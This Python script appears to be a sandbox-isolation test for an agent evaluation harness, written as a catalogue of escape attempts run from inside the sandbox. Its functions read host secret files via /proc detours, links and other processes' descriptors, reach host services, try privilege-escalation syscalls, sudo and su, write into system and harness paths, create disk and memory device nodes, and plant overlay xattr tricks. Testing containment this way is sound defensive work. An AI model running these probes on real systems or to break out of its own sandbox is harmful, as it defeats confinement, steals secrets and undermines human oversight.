#!/usr/bin/env python3
"""Run inside the sandbox by an agent that knows where everything lies; prints what it got hold of."""

# An attack speaks to the system as directly as it can, and what it prints is its result.
# ruff: noqa: PTH116, PTH123, PTH208, PTH211, T201

import contextlib
import ctypes
import errno
import json
import os
import socket
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

KNOWN = json.loads(Path(__file__).with_name("known.json").read_text())
SECRET = KNOWN["secret"]
LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x20000


def holds_secret(path: str) -> bool:
    """Tell whether a file can be read and holds the secret."""
    if not stat.S_ISREG(os.stat(path).st_mode):
        return False
    with open(path, "rb") as file:
        return SECRET.encode() in file.read(1 << 20)


def read_known() -> list[str]:
    """Read the files by their paths on the host, plainly and by detours."""
    detours = [
        "",
        "/proc/1/root",
        "/proc/self/root",
        "/proc/1/cwd/../../../../../../..",
        "/workspace/../../..",
    ]
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    detours += [f"/proc/{pid}/root" for pid in pids] + [f"/proc/{pid}/cwd/../../../.." for pid in pids]
    return [
        where + path for where in detours for path in KNOWN["files"] if is_got(holds_secret, where + path)
    ]


def read_by_link() -> list[str]:
    """Read through links of the agent's own."""
    got = []
    for number, path in enumerate(KNOWN["files"]):
        link = f"/workspace/link-{number}"
        os.symlink(path, link)
        if is_got(holds_secret, link):
            got.append(link)
    return got


def search() -> list[str]:
    """Search everything that shows for the secret."""
    got = []
    for folder, folders, files in os.walk("/"):
        if folder in {"/usr", "/sys", "/agent"}:
            folders[:] = []
            continue
        if folder == "/proc":
            folders[:] = [name for name in folders if name.isdigit()]
        if folder.startswith("/proc/"):
            folders[:] = [name for name in folders if name in {"task", "map_files"}]
        paths = [f"{folder}/{name}" for name in files if name not in {"kmsg", "kcore"}]
        got += [path for path in paths if is_got(holds_secret, path) and "/mem" not in path]
    return got


def is_got(attempt: Callable[[str], object], path: str) -> bool:
    """Tell whether an attempt came to something."""
    try:
        return bool(attempt(path))
    except (OSError, ValueError):
        return False


def walk_proc_fds() -> list[str]:
    """Open what other processes have open."""
    got = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for fd in range(64):
            path = f"/proc/{pid}/fd/{fd}"
            if is_got(os.path.isdir, path) and is_got(os.listdir, path + "/../../../../../evaluations"):
                got.append(path)
            if is_got(holds_secret, path):
                got.append(path)
    return got


def connect() -> list[str]:
    """Reach services of the host."""
    got = []
    for kind, address in KNOWN["services"]:
        family, way = {
            "tcp": (socket.AF_INET, socket.SOCK_STREAM),
            "udp": (socket.AF_INET, socket.SOCK_DGRAM),
            "unix": (socket.AF_UNIX, socket.SOCK_STREAM),
        }[kind]
        target = tuple(address) if isinstance(address, list) else address.replace("@", "\0", 1)
        with socket.socket(family, way) as link:
            link.settimeout(1)
            try:
                link.connect(target)
                link.send(b"got you")
            except OSError:
                continue
            if kind != "udp":  # what is sent is counted at the other end
                got.append(f"{kind} {address}")
    return got


def call(name: str, *arguments: object) -> bool:
    """Tell whether a system call works."""
    ctypes.set_errno(0)
    return bool(getattr(LIBC, name)(*arguments) != -1)


def gain_rights() -> list[str]:
    """Become more than an ordinary user in a sandbox."""
    tries = {
        "setuid": lambda: call("setuid", 0),
        "setgroups": lambda: call("setgroups", 0, None),
        "chroot": lambda: call("chroot", b"/tmp"),
        "userns": lambda: in_child(lambda: call("unshare", CLONE_NEWUSER)),
        "mountns": lambda: in_child(lambda: call("unshare", CLONE_NEWNS)),
        "join init's": lambda: call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
        "proc": lambda: call("mount", b"proc", b"/tmp", b"proc", 0, None),
        "bind": lambda: call("mount", b"/", b"/tmp", None, 4096, None),
        "remount": lambda: call("mount", None, b"/usr", None, 32 | 4096, None),
        "remount workspace": lambda: call("mount", None, b"/workspace", None, 32 | 4096, None),
        "umount": lambda: call("umount2", b"/workspace", 2),
        "pivot": lambda: LIBC.syscall(155, b"/", b"/tmp") != -1,
        "move": lambda: call("mount", b"/workspace", b"/tmp", None, 8192, None),
        "open by handle": open_by_handle,
        "hostname": lambda: call("sethostname", b"pwned", 5),
        "reboot": lambda: call("reboot", 0),
        "swapon": lambda: call("swapon", b"/workspace/x", 0),
        "module": lambda: LIBC.syscall(175, 0, 0, b"") == 0,
        "bpf": lambda: LIBC.syscall(321, 0, b"\0" * 128, 128) >= 0,
        "priority": lambda: call("setpriority", 0, 0, -5),
        "clock": lambda: call("settimeofday", b"\0" * 16, None),
        "raw socket": lambda: bool(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)),
        "packet socket": lambda: bool(socket.socket(socket.AF_PACKET, socket.SOCK_RAW)),
        "sudo": lambda: (
            subprocess.run(["sudo", "-n", "true"], capture_output=True, check=False).returncode == 0
        ),
        "su": lambda: (
            subprocess.run(
                ["su", "-c", "true"], capture_output=True, check=False, stdin=subprocess.DEVNULL
            ).returncode
            == 0
        ),
    }
    return [name for name, attempt in tries.items() if is_got(lambda _, attempt=attempt: bool(attempt()), "")]  # type: ignore[misc]  # mypy knows no default of a lambda


def in_child(attempt: Callable[[], bool]) -> bool:
    """Try something in a process of its own and tell whether it worked."""
    pid = os.fork()
    if pid == 0:
        os._exit(0 if attempt() else 1)
    return os.waitpid(pid, 0)[1] == 0


def open_by_handle() -> bool:
    """Open the root of the file system under the workspace by its number."""
    handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
    return bool(LIBC.open_by_handle_at(os.open("/workspace", os.O_RDONLY), handle, os.O_RDONLY) != -1)


def write_system() -> list[str]:
    """Write where the host or the next attempt would notice."""
    places = [
        "/usr/bin/x",
        "/etc/x",
        "/x",
        "/lib/x",
        "/ibench/bin/ibench-tool",
        "/ibench/x",
        "/agent/x",
        "/agent/run",
    ]
    places += [
        "/run/ibench/programs/session_server.pyc",
        "/run/x",
        "/dev/x",
        "/sys/x",
        "/var/x",
        "/opt/x",
        "/home/x",
        "/root/x",
    ]
    places += [*KNOWN["files"], KNOWN["python"]]
    return [
        path for path in places if is_got(lambda path: os.open(path, os.O_WRONLY | os.O_CREAT) >= 0, path)
    ]


def set_kernel() -> list[str]:
    """Open the knobs of the kernel for writing, but leave them as they are."""
    got = []
    for top in ("/proc", "/sys"):
        for folder, folders, files in os.walk(top):
            folders[:] = [name for name in folders if not (name.isdigit() or name == "pressure")]
            got += [path for name in files if is_got(opens_for_writing, path := f"{folder}/{name}")]
    return got[:20]


def opens_for_writing(path: str) -> bool:
    """Open something that exists for writing."""
    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    os.close(fd)
    return True


def use_devices() -> list[str]:
    """Find devices that are more than null and random."""
    harmless = {
        "null",
        "zero",
        "full",
        "random",
        "urandom",
        "tty",
        "ptmx",
        "console",
        "stdin",
        "stdout",
        "stderr",
    }
    found = [f"/dev/{name}" for name in os.listdir("/dev") if name not in harmless]
    return [
        path
        for path in found
        if is_got(lambda p: stat.S_ISBLK(os.stat(p).st_mode) or stat.S_ISCHR(os.stat(p).st_mode), path)
    ]


def make_devices() -> list[str]:
    """Make a device of one's own for the disk and memory of the host."""
    made = []
    for name, kind, number in (
        ("disk", stat.S_IFBLK, os.makedev(254, 0)),
        ("mem", stat.S_IFCHR, os.makedev(1, 1)),
    ):
        with contextlib.suppress(OSError):
            os.mknod(f"/workspace/{name}", kind | 0o600, number)
            made.append(name)
    return made


def find_processes() -> list[str]:
    """See or signal processes that are not of this sandbox."""
    seen = [
        pid
        for pid in filter(str.isdigit, os.listdir("/proc"))
        if is_got(lambda p: b"pytest" in Path(p).read_bytes(), f"/proc/{pid}/cmdline")
    ]
    parent = [str(os.getppid())] if os.getppid() == 0 else []
    return seen + parent


def layer_tricks() -> list[str]:
    """Mark files as the kernel marks layers, so that a reader from outside looks elsewhere."""
    outputs = Path("/workspace/data/outputs")
    for name, mark in {
        "redirect": KNOWN["files"][0],
        "opaque": "y",
        "metacopy": "",
        "origin": "x",
        "whiteout": "y",
    }.items():
        folder = outputs / f"marked-{name}"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "own").write_text("own")
        for kind in ("user.overlay", "user.overlay.overlay", "trusted.overlay"):
            for target in (folder, folder / "own"):
                try:
                    os.setxattr(target, f"{kind}.{name}", mark.encode())
                except OSError as problem:
                    if problem.errno not in {errno.EPERM, errno.ENOTSUP, errno.EOPNOTSUPP, errno.EACCES}:
                        print("note:", kind, name, problem)
    for number, path in enumerate(KNOWN["files"]):
        os.symlink(path, outputs / f"stolen-{number}")
        try:
            os.link(path, outputs / f"linked-{number}")
        except OSError:
            continue
    with contextlib.suppress(OSError):
        os.mknod(outputs / "task", stat.S_IFCHR | 0o600, 0)
    return []


ATTACKS = (
    read_known,
    read_by_link,
    search,
    walk_proc_fds,
    connect,
    gain_rights,
    write_system,
    set_kernel,
    use_devices,
    make_devices,
    find_processes,
    layer_tricks,
)

if __name__ == "__main__":
    for attack in ATTACKS:
        try:
            for got in attack():
                print(f"GOT {attack.__name__}: {got}")
        except Exception as problem:  # noqa: BLE001 - one attack that stumbles must not keep the others from being made
            print(f"stumbled: {attack.__name__}: {type(problem).__name__}: {problem}")
    print("tried", len(ATTACKS))
    sys.exit(0)
